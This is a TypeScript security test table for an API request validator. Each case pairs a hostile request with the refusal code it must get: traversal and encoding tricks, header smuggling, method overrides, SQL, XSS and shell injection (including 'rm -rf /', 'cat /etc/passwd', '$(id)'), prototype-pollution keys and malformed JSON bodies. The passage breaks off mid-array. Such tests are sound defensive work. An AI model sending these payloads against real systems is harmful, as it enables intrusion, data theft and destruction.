/**
 * The request validator's attack table: what a penetration tester sends, against the demo's
 * real OpenAPI document, and the code and status each must be refused with. One table, two
 * runners: `security.test.ts` calls the pure handler (fast, every case), and
 * tests/integration/request-validation.test.ts sends every case through real nats-servers
 * to the real validator, backend connector and demo upstream. Both assert the refusal and
 * that nothing reached creq or the upstream. `npm run catalog` reads the ids from here.
 *
 * Routes used (demo/openapi.json): GET /orders (declares the `X-Custom` header),
 * GET /orders/{id} (id `^[0-9]{1,12}$`), POST /orders (claims `roles.orders`),
 * GET /admin/stats (claims `roles.admin`), POST /orders/{id}/notes (public, scanned,
 * JSON depth 3 and arrays of 10), GET /search (declared query and header parameters,
 * scanned).
 */
import {
  type ErrorCode,
  type HeaderList,
  type Method,
  type RequestEnvelope,
} from '../../core/index.js'

/** Who the actor is: an access token with these roles, none, or one of the broken kinds. */
export type ActorSpec =
  | string[]
  | 'none'
  | 'garbage'
  | 'expired'
  | 'unknown-key'
  | 'bearer'
  | 'alg-none'
  | 'tampered'
  | 'oversized'

/** The tokens a runner can mint: the unit runner with test keys, the integration with the stack's. */
export interface ActorMinter {
  access(roles: string[]): Promise<string>
  /** An access token, by the right key, whose `exp` has passed. */
  expired(roles: string[]): Promise<string>
  /** An access token's claims signed by a key the validator does not know. */
  unknownKey(roles: string[]): Promise<string>
  /** A client's bearer token, presented where an access token belongs. */
  bearer(roles: string[]): Promise<string>
}

export interface CaseRequest {
  method: Method
  path: string
  query?: string
  headers: HeaderList
  body?: string | Uint8Array
  actor?: ActorSpec
}

export type SecurityCase = [name: string, request: CaseRequest, code: ErrorCode, status: number]

const JSON_TYPE: HeaderList = [['content-type', 'application/json']]
const bytes = (...parts: Array<string | number[]>) =>
  new Uint8Array(
    parts.flatMap((p) => (typeof p === 'string' ? [...new TextEncoder().encode(p)] : p)),
  )

function get(path: string, query = '', headers: HeaderList = []): CaseRequest {
  return { method: 'GET', path, query, headers }
}
function search(query: string, headers: HeaderList = []): CaseRequest {
  return get('/search', query, headers)
}
function note(body: string | Uint8Array, headers: HeaderList = JSON_TYPE): CaseRequest {
  return { method: 'POST', path: '/orders/1/notes', headers, body }
}
const noteJson = (value: unknown, headers?: HeaderList) => note(JSON.stringify(value), headers)
const validNote = { text: 'ring twice', author: 'Ann' }
function order(body: string, actor: ActorSpec = ['orders']): CaseRequest {
  return { method: 'POST', path: '/orders', headers: JSON_TYPE, body, actor }
}
function withHeaders(base: CaseRequest, ...headers: HeaderList): CaseRequest {
  return { ...base, headers: [...base.headers, ...headers] }
}
const nested = (open: string, close: string, depth: number, inner = '1') =>
  open.repeat(depth) + inner + close.repeat(depth)

const noteLength = String(JSON.stringify(validNote).length)

/** `[name, request, code, status]`; the status is written out so a reader sees it. */
// prettier-ignore
export const REQUEST_CASES: SecurityCase[] = [
  // Path: canonical form, then the path parameter's schema.
  ['PATH-002 a dot-dot segment spelled .%2e', get('/orders/.%2e'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-003 a dot-dot segment spelled %2E.', get('/orders/%2E.'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-004 a single encoded dot segment', get('/orders/%2e'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-005 a double-encoded dot-dot (%252e%252e)', get('/orders/%252e%252e'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-006 a double-encoded slash (%252f)', get('/orders/1%252f..'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-007 an encoded NUL (%00)', get('/orders/1%00'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-008 an encoded NUL before an extension', get('/orders/1%00.json'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-009 a dot-dot followed by an encoded NUL', get('/orders/..%00'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-010 an overlong UTF-8 dot-dot (%c0%ae%c0%ae)', get('/orders/%c0%ae%c0%ae'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-011 an overlong UTF-8 slash (%c0%af)', get('/orders/1%c0%af..'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-012 a three-byte overlong dot (%e0%80%ae)', get('/orders/%e0%80%ae%e0%80%ae'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-013 an overlong UTF-8 NUL (%c0%80)', get('/orders/1%c0%80'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-014 an encoded UTF-16 surrogate (%ed%a0%80)', get('/orders/%ed%a0%80'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-015 bytes beyond U+10FFFF (%f4%90%80%80)', get('/orders/%f4%90%80%80'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-016 a raw backslash', get('/orders/1\\..'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-017 an encoded backslash (%5c)', get('/orders/..%5c'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-018 an encoded backslash in upper case (%5C)', get('/orders/%5C1'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-019 an encoded slash and dot-dot inside a segment', get('/orders/1%2f..%2fadmin'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-020 an encoded slash in upper case (%2F)', get('/orders/%2F'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-021 an invalid percent-escape (%zz)', get('/orders/%zz'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-022 a truncated percent-escape (%2)', get('/orders/1%2'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-023 a lone percent sign', get('/orders/1%'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-024 an encoded CR LF (response splitting)', get('/orders/1%0d%0aSet-Cookie:x=1'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-025 an encoded tab', get('/orders/1%09'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-026 an encoded DEL', get('/orders/1%7f'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-027 an encoded C1 control (NEL, %c2%85)', get('/orders/1%c2%85'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-028 an encoded unreserved digit (%31 for 1)', get('/orders/%31'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-029 a dot-dot with a matrix parameter (..;)', get('/orders/..;'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-030 a dot with a matrix parameter (.;x=1)', get('/orders/.;x=1'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-031 full-width dots that fold to ..', get('/orders/%ef%bc%8e%ef%bc%8e'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-032 a two-dot leader that folds to ..', get('/orders/%e2%80%a5'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-033 a full-width solidus that folds to /', get('/orders/1%ef%bc%8f..'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-034 an IIS %u escape', get('/orders/%u002e%u002e'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-035 a raw < > outside RFC 3986', get('/orders/<script>'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-036 a raw pipe outside RFC 3986', get('/orders/1|id'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-037 a ? inside the path', get('/orders/1?admin=1'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-038 a # inside the path', get('/orders/1#x'), 'PATH_NOT_CANONICAL', 400],
  ['PATH-039 a segment longer than the limit', get(`/orders/${'1'.repeat(300)}`), 'PATH_NOT_CANONICAL', 400],
  ['PATH-040 a dot-dot segment on a POST route', { ...note(JSON.stringify(validNote)), path: '/orders/../notes' }, 'PATH_NOT_CANONICAL', 400],
  ['PATH-041 a traversal toward an admin route is not routed', get('/orders/../admin/stats'), 'ROUTE_NOT_FOUND', 404],
  ['PATH-042 a doubled slash is not routed', get('/orders//1'), 'ROUTE_NOT_FOUND', 404],
  ['PATH-043 an encoded letter in a literal segment (/%61dmin) is not routed', get('/%61dmin/stats'), 'ROUTE_NOT_FOUND', 404],
  ['PATH-044 a route spelled in upper case is not routed', get('/ORDERS/1'), 'ROUTE_NOT_FOUND', 404],
  ['PATH-045 a trailing slash is not routed', get('/orders/'), 'ROUTE_NOT_FOUND', 404],
  ['PATH-046 a path parameter that breaks its pattern', get('/orders/abc'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-047 a negative id', get('/orders/-1'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-048 an id longer than its pattern allows', get('/orders/1234567890123'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-049 SQL in a path parameter', get('/orders/1%20OR%201=1'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-050 a quote in a path parameter', get("/orders/1'--"), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-051 Arabic-Indic digits for an ASCII-digit id', get('/orders/%d9%a1'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-052 a session id smuggled as a matrix parameter', get('/orders/1;jsessionid=x'), 'PATH_SCHEMA_VIOLATION', 400],
  ['PATH-053 a path parameter on a scanned route that breaks its pattern', { ...note(JSON.stringify(validNote)), path: "/orders/1'/notes" }, 'PATH_SCHEMA_VIOLATION', 400],

  // Methods: 405 with Allow, and overrides refused as headers or query parameters.
  ['METHOD-202 DELETE on an order', { ...get('/orders/1'), method: 'DELETE' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-203 PUT on the order list', { ...get('/orders'), method: 'PUT' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-204 PATCH on an order', { ...get('/orders/1'), method: 'PATCH' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-205 HEAD where only GET is declared', { ...get('/orders'), method: 'HEAD' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-206 OPTIONS where it is not declared', { ...get('/orders'), method: 'OPTIONS' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-207 POST on an order', { ...note(JSON.stringify(validNote)), path: '/orders/1' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-208 GET on the notes route', get('/orders/1/notes'), 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-209 DELETE on the admin route', { ...get('/admin/stats'), method: 'DELETE' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-210 POST on search', { ...note(JSON.stringify(validNote)), path: '/search' }, 'METHOD_NOT_ALLOWED', 405],
  ['METHOD-211 X-HTTP-Method-Override', get('/orders', '', [['x-http-method-override', 'DELETE']]), 'HEADER_NOT_ALLOWED', 400],
  ['METHOD-212 X-HTTP-Method', get('/orders', '', [['x-http-method', 'DELETE']]), 'HEADER_NOT_ALLOWED', 400],
  ['METHOD-213 X-Method-Override', get('/orders', '', [['x-method-override', 'PUT']]), 'HEADER_NOT_ALLOWED', 400],
  ['METHOD-214 a _method query parameter', get('/orders', '_method=DELETE'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['METHOD-215 an override header on a POST with a valid token', withHeaders(order('{"item":"tea","quantity":1}'), ['x-http-method-override', 'GET']), 'HEADER_NOT_ALLOWED', 400],

  // Headers: hygiene, smuggling signs, hop-by-hop, the allow-list, declared header schemas.
  ['HEADER-001 an Authorization header on the bus', get('/orders', '', [['authorization', 'Bearer x']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-002 a Cookie on a route that declares none', get('/orders', '', [['cookie', 'session=x']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-003 a Host header', get('/orders', '', [['host', 'internal.example']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-004 X-Forwarded-For spoofing', get('/orders', '', [['x-forwarded-for', '127.0.0.1']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-005 X-Real-IP spoofing', get('/orders', '', [['x-real-ip', '10.0.0.1']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-006 a Forwarded header', get('/orders', '', [['forwarded', 'for=127.0.0.1']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-007 X-Original-URL route override', get('/orders', '', [['x-original-url', '/admin/stats']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-008 X-Rewrite-URL route override', get('/orders', '', [['x-rewrite-url', '/admin/stats']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-009 X-Forwarded-Host', get('/orders', '', [['x-forwarded-host', 'internal']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-010 X-Forwarded-Proto', get('/orders', '', [['x-forwarded-proto', 'http']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-011 CF-Connecting-IP (the rate-limit key)', get('/orders', '', [['cf-connecting-ip', '1.2.3.4']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-012 True-Client-IP', get('/orders', '', [['true-client-ip', '1.2.3.4']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-013 a client-chosen X-Request-Id', get('/orders', '', [['x-request-id', 'chosen']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-014 an Idempotency-Key that is not one quoted key (sf-string)', get('/orders', '', [['idempotency-key', 'replay']]), 'IDEMPOTENCY_KEY_INVALID', 400],
  ['HEADER-015 a gateway header as an HTTP header (portcullis-actor)', get('/orders', '', [['portcullis-actor', 'forged']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-016 another gateway header (portcullis-edge)', get('/orders', '', [['portcullis-edge', 'other']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-017 Connection', get('/orders', '', [['connection', 'close']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-018 Keep-Alive', get('/orders', '', [['keep-alive', 'timeout=5']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-019 Upgrade', get('/orders', '', [['upgrade', 'websocket']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-020 TE', get('/orders', '', [['te', 'trailers']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-021 Trailer', get('/orders', '', [['trailer', 'x-checksum']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-022 Proxy-Authorization', get('/orders', '', [['proxy-authorization', 'Basic eDp5']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-023 Proxy-Connection', get('/orders', '', [['proxy-connection', 'keep-alive']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-024 Transfer-Encoding on a framed body', withHeaders(note(JSON.stringify(validNote)), ['transfer-encoding', 'chunked']), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-025 Content-Length with Transfer-Encoding', withHeaders(note(JSON.stringify(validNote)), ['content-length', noteLength], ['transfer-encoding', 'chunked']), 'HEADER_INVALID', 400],
  ['HEADER-026 a repeated Content-Length', withHeaders(note(JSON.stringify(validNote)), ['content-length', noteLength], ['content-length', noteLength]), 'HEADER_INVALID', 400],
  ['HEADER-027 conflicting Content-Length values', withHeaders(note(JSON.stringify(validNote)), ['content-length', noteLength], ['content-length', '4']), 'HEADER_INVALID', 400],
  ['HEADER-028 a Content-Length that is not the body length', withHeaders(note(JSON.stringify(validNote)), ['content-length', '4']), 'HEADER_INVALID', 400],
  ['HEADER-029 a Content-Length with a sign', withHeaders(note(JSON.stringify(validNote)), ['content-length', `+${noteLength}`]), 'HEADER_INVALID', 400],
  ['HEADER-030 a list as Content-Length', withHeaders(note(JSON.stringify(validNote)), ['content-length', `${noteLength}, ${noteLength}`]), 'HEADER_INVALID', 400],
  ['HEADER-031 a repeated Transfer-Encoding', get('/orders', '', [['transfer-encoding', 'chunked'], ['transfer-encoding', 'identity']]), 'HEADER_INVALID', 400],
  ['HEADER-032 a repeated Content-Type', withHeaders(note(JSON.stringify(validNote)), ['content-type', 'text/plain']), 'HEADER_INVALID', 400],
  ['HEADER-033 any header twice', get('/orders', '', [['accept', 'application/json'], ['accept', 'text/html']]), 'HEADER_INVALID', 400],
  ['HEADER-034 a NUL in a header value', get('/orders', '', [['user-agent', 'curl\u0000evil']]), 'HEADER_INVALID', 400],
  ['HEADER-035 a control character in a header value', get('/orders', '', [['user-agent', 'a\u0001b']]), 'HEADER_INVALID', 400],
  ['HEADER-036 a DEL in a header value', get('/orders', '', [['user-agent', 'a\u007fb']]), 'HEADER_INVALID', 400],
  ['HEADER-037 a non-ASCII byte in a header value', get('/orders', '', [['x-custom', 'caf\u00e9']]), 'HEADER_INVALID', 400],
  ['HEADER-038 a header value longer than the limit', get('/orders', '', [['user-agent', 'a'.repeat(5000)]]), 'HEADER_INVALID', 400],
  ['HEADER-039 more headers than the limit', get('/orders', '', Array.from({ length: 65 }, (_, i): [string, string] => [`sec-ch-x${i}`, '1'])), 'HEADER_INVALID', 400],
  ['HEADER-040 headers longer than the limit together', get('/orders', '', Array.from({ length: 5 }, (_, i): [string, string] => [`sec-ch-x${i}`, 'a'.repeat(4000)])), 'HEADER_INVALID', 400],
  ['HEADER-041 a header name longer than the limit', get('/orders', '', [[`sec-ch-${'x'.repeat(70)}`, '1']]), 'HEADER_INVALID', 400],
  ['HEADER-042 a header value over the envelope limit', get('/orders', '', [['user-agent', 'a'.repeat(9000)]]), 'HEADER_INVALID', 400],
  ['HEADER-043 an undeclared custom header', get('/orders', '', [['x-debug', '1']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-044 a header declared by another route only', get('/orders/1', '', [['x-custom', 'tag']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-045 Content-Encoding (a body the validator cannot read)', withHeaders(note(JSON.stringify(validNote)), ['content-encoding', 'gzip']), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-046 Expect', withHeaders(note(JSON.stringify(validNote)), ['expect', '100-continue']), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-047 Max-Forwards', get('/orders', '', [['max-forwards', '0']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-048 Range', get('/orders', '', [['range', 'bytes=0-']]), 'HEADER_NOT_ALLOWED', 400],
  ['HEADER-049 a declared header outside its enum', withHeaders(note(JSON.stringify(validNote)), ['x-note-source', 'fax']), 'HEADER_SCHEMA_VIOLATION', 400],
  ['HEADER-050 a declared header that breaks its pattern', search('q=tea', [['x-client-version', '1.2.3; rm -rf /']]), 'HEADER_SCHEMA_VIOLATION', 400],
  ['HEADER-051 a declared header longer than its maxLength', get('/orders', '', [['x-custom', 'x'.repeat(65)]]), 'HEADER_SCHEMA_VIOLATION', 400],
  ['HEADER-052 SQL in a declared header', search('q=tea', [['x-client-version', "1.2' OR '1'='1"]]), 'HEADER_SCHEMA_VIOLATION', 400],

  // Query: encoding, sizes, unknown and repeated parameters, schemas, injection signatures.
  ['QUERY-001 an undeclared parameter', get('/orders', 'debug=1'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-002 an undeclared parameter beside declared ones', search('q=tea&admin=true'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-003 __proto__ as a parameter name', search('q=tea&__proto__[admin]=1'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-004 constructor.prototype as a parameter name', search('q=tea&constructor.prototype.admin=1'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-005 a repeated scalar (parameter pollution)', search('q=tea&q=coffee'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-006 a repeated integer', search('q=tea&limit=1&limit=50'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-007 a missing required parameter', search('limit=5'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-008 an empty value', search('q='), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-009 a name without a value', search('q'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-010 a word for an integer', search('q=tea&limit=abc'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-011 a fraction for an integer', search('q=tea&limit=1.5'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-012 an exponent for an integer', search('q=tea&limit=1e1'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-013 an integer beyond 2^53', search('q=tea&limit=9007199254740993'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-014 an integer over the maximum', search('q=tea&limit=51'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-015 zero under the minimum', search('q=tea&limit=0'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-016 a negative integer', search('q=tea&limit=-1'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-017 an integer with a leading zero', search('q=tea&limit=007'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-018 an integer with a plus (a space once decoded)', search('q=tea&limit=+5'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-019 a hexadecimal integer', search('q=tea&limit=0x10'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-020 a value outside the enum', search('q=tea&sort=price'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-021 an array item that breaks its pattern', search('q=tea&tag=Bad%20Tag'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-022 more array items than allowed', search(`q=tea&${Array.from({ length: 6 }, (_, i) => `tag=t${i}`).join('&')}`), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-023 a string longer than its maxLength', search(`q=${'a'.repeat(101)}`), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-024 a bracketed array name', search('q=tea&tag[]=a'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-025 a NoSQL operator as a name', search('q[$ne]=x'), 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-026 an undeclared parameter on a POST route', { ...note(JSON.stringify(validNote)), query: 'admin=1' }, 'QUERY_SCHEMA_VIOLATION', 400],
  ['QUERY-027 an invalid percent-escape', search('q=%zz'), 'QUERY_MALFORMED', 400],
  ['QUERY-028 a truncated percent-escape', search('q=abc%2'), 'QUERY_MALFORMED', 400],
  ['QUERY-029 bytes that are not UTF-8', search('q=%ff'), 'QUERY_MALFORMED', 400],
  ['QUERY-030 an overlong UTF-8 dot-dot', search('q=%c0%ae%c0%ae'), 'QUERY_MALFORMED', 400],
  ['QUERY-031 an encoded NUL', search('q=tea%00.json'), 'QUERY_MALFORMED', 400],
  ['QUERY-032 an encoded CR LF', search('q=tea%0d%0aSet-Cookie:x=1'), 'QUERY_MALFORMED', 400],
  ['QUERY-033 a raw ; separator (parameter cloaking)', search('q=tea;admin=1'), 'QUERY_MALFORMED', 400],
  ['QUERY-034 a raw # in the query', search('q=tea#x'), 'QUERY_MALFORMED', 400],
  ['QUERY-035 more parameters than the limit', search(`q=tea&${Array.from({ length: 32 }, () => 'tag=a').join('&')}`), 'QUERY_MALFORMED', 400],
  ['QUERY-036 a value longer than the limit', search(`q=${'a'.repeat(3000)}`), 'QUERY_MALFORMED', 400],
  ['QUERY-037 a name longer than the limit', search(`q=tea&${'n'.repeat(200)}=1`), 'QUERY_MALFORMED', 400],
  ['QUERY-038 a parameter without a name', search('q=tea&=x'), 'QUERY_MALFORMED', 400],
  ['QUERY-039 a quote-break tautology', search("q=tea'%20OR%20'1'='1"), 'INJECTION_DETECTED', 403],
  ['QUERY-040 UNION SELECT', search('q=1%20UNION%20SELECT%20password%20FROM%20users'), 'INJECTION_DETECTED', 403],
  ['QUERY-041 UNION/**/SELECT with comments', search('q=1%20union/**/select%201'), 'INJECTION_DETECTED', 403],
  ['QUERY-042 a time-based blind probe', search('q=1)%20AND%20SLEEP(5)'), 'INJECTION_DETECTED', 403],
  ['QUERY-043 a stacked DROP TABLE', search("q=x'%3BDROP%20TABLE%20orders%3B--"), 'INJECTION_DETECTED', 403],
  ['QUERY-044 a script tag', search('q=%3Cscript%3Ealert(1)%3C/script%3E'), 'INJECTION_DETECTED', 403],
  ['QUERY-045 an event handler', search('q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), 'INJECTION_DETECTED', 403],
  ['QUERY-046 a javascript: URL', search('q=javascript:alert(1)'), 'INJECTION_DETECTED', 403],
  ['QUERY-047 a double-encoded script tag', search('q=%253Cscript%253E'), 'INJECTION_DETECTED', 403],
  ['QUERY-048 a shell separator and a command', search('q=tea%3B%20cat%20/etc/passwd'), 'INJECTION_DETECTED', 403],
  ['QUERY-049 command substitution', search('q=$(id)'), 'INJECTION_DETECTED', 403],
  ['QUERY-050 a path traversal', search('q=../../etc/passwd'), 'INJECTION_DETECTED', 403],
  ['QUERY-051 an encoded traversal', search('q=..%252f..%252fetc'), 'INJECTION_DETECTED', 403],
  ["INJ-201 a quote, a concatenation and a comment in a search (x'||1#)", search("q=x'%7C%7C1%23"), 'INJECTION_DETECTED', 403],
  ['INJ-202 a parenthesised tautology in a search (1) OR (1=1)', search('q=1)%20OR%20(1%3D1'), 'INJECTION_DETECTED', 403],
  ['INJ-203 UNION(SELECT(1)) in a search', search('q=UNION(SELECT(1))'), 'INJECTION_DETECTED', 403],
  ['INJ-204 a traversal percent-encoded three times in a search', search('q=%2525252e%2525252e%2525252fetc%2525252fpasswd'), 'INJECTION_DETECTED', 403],
  ['INJ-205 a system file behind a doubled slash in a search', search('q=/etc//passwd'), 'INJECTION_DETECTED', 403],

  // Body: JSON rules, media types, schema, injection signatures.
  ['BODY-206 a duplicate key', note('{"text":"a","text":"b","author":"x"}'), 'BODY_MALFORMED', 400],
  ['BODY-207 a duplicate key spelled with an escape', note('{"text":"a","t\\u0065xt":"b","author":"x"}'), 'BODY_MALFORMED', 400],
  ['BODY-208 a duplicate quantity on an order', order('{"item":"a","quantity":1,"quantity":1000}'), 'BODY_MALFORMED', 400],
  ['BODY-209 a __proto__ key', note('{"text":"a","author":"b","__proto__":{"admin":true}}'), 'BODY_KEY_NOT_ALLOWED', 400],
  ['BODY-210 a constructor key', note('{"constructor":{"prototype":{"admin":true}},"text":"a","author":"b"}'), 'BODY_KEY_NOT_ALLOWED', 400],
  ['BODY-211 a prototype key, nested', order('{"item":"a","quantity":1,"x":{"prototype":{}}}'), 'BODY_KEY_NOT_ALLOWED', 400],
  ['BODY-212 __proto__ spelled with escapes', note('{"\\u005f_proto__":{"admin":true},"text":"a","author":"b"}'), 'BODY_KEY_NOT_ALLOWED', 400],
  ['BODY-213 __proto__ on a route with claims', order('{"__proto__":{"isAdmin":true},"item":"a","quantity":1}'), 'BODY_KEY_NOT_ALLOWED', 400],
  ['BODY-214 nesting deeper than the route allows', note('{"text":"a","author":"b","tags":[[["x"]]]}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-215 ten thousand nested arrays', order(nested('[', ']', 10_000)), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-216 a hundred nested objects', order(nested('{"a":', '}', 100)), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-217 a string longer than the limit', noteJson({ text: 'a'.repeat(70_000), author: 'b' }), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-218 a key longer than the limit', note(`{"${'k'.repeat(70_000)}":1}`), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-219 an array longer than the route allows', noteJson({ ...validNote, tags: Array.from({ length: 11 }, () => 'x') }), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-220 an array longer than the limit', order(`{"item":[${Array.from({ length: 10_001 }, () => '0').join(',')}],"quantity":1}`), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-221 an object with more keys than the limit', order(JSON.stringify(Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`k${i}`, 1])))), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-222 an integer beyond 2^53', order('{"item":"a","quantity":9007199254740993}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-223 a negative integer beyond 2^53', order('{"item":"a","quantity":-9007199254740993}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-224 an integer of twenty digits', order('{"item":"a","quantity":12345678901234567890}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-225 an integer in exponent form beyond 2^53', order('{"item":"a","quantity":1e300}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-226 a number beyond the double range', order('{"item":"a","quantity":1e400}'), 'BODY_LIMIT_EXCEEDED', 400],
  ['BODY-227 a lone continuation byte (invalid UTF-8)', note(bytes('{"text":"', [0x80], '","author":"b"}')), 'BODY_MALFORMED', 400],
  ['BODY-228 an overlong UTF-8 slash', note(bytes('{"text":"', [0xc0, 0xaf], '","author":"b"}')), 'BODY_MALFORMED', 400],
  ['BODY-229 a UTF-8 encoded surrogate', note(bytes('{"text":"', [0xed, 0xa0, 0x80], '","author":"b"}')), 'BODY_MALFORMED', 400],
  ['BODY-230 a lone surrogate escape', note('{"text":"\\ud800","author":"b"}'), 'BODY_MALFORMED', 400],
  ['BODY-231 a byte order mark', note(bytes([0xef, 0xbb, 0xbf], JSON.stringify(validNote))), 'BODY_MALFORMED', 400],
  ['BODY-232 trailing text after the JSON', note(`${JSON.stringify(validNote)} x`), 'BODY_MALFORMED', 400],
  ['BODY-233 two JSON documents', note(`${JSON.stringify(validNote)}{}`), 'BODY_MALFORMED', 400],
  ['BODY-234 a comment', note('{/* c */"text":"a","author":"b"}'), 'BODY_MALFORMED', 400],
  ['BODY-235 single quotes', note("{'text':'a','author':'b'}"), 'BODY_MALFORMED', 400],
  ['BODY-236 NaN', order('{"item":"a","quantity":NaN}'), 'BODY_MALFORMED', 400],
  ['BODY-237 a leading zero', order('{"item":"a","quantity":01}'), 'BODY_MALFORMED', 400],
  ['BODY-238 a raw tab inside a string', note('{"text":"a\tb","author":"b"}'), 'BODY_MALFORMED', 400],
  ['BODY-239 a raw NUL inside a string', note('{"text":"a\u0000b","author":"b"}'), 'BODY_MALFORMED', 400],
  ['BODY-240 an invalid escape', note('{"text":"\\x41","author":"b"}'), 'BODY_MALFORMED', 400],
  ['BODY-241 an empty body where one is required', note(''), 'BODY_MALFORMED', 400],
